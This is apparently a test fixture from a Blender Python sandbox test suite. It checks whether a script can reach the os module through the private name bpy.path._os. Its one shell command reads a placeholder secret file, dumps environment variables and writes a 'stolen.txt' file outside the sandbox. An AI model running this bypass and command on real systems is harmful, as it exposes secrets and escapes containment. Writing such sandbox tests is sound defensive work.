# SPDX-License-Identifier: GPL-3.0-or-later
# title: A private name of bpy.path is the module os
# route: bpy.path._os
# policy: refused underscore
# contained: canary writes
# ends: finished raised
import bpy

os = bpy.path._os
os.system("cat @SECRET@; env; echo written > @OUTSIDE@/stolen.txt")
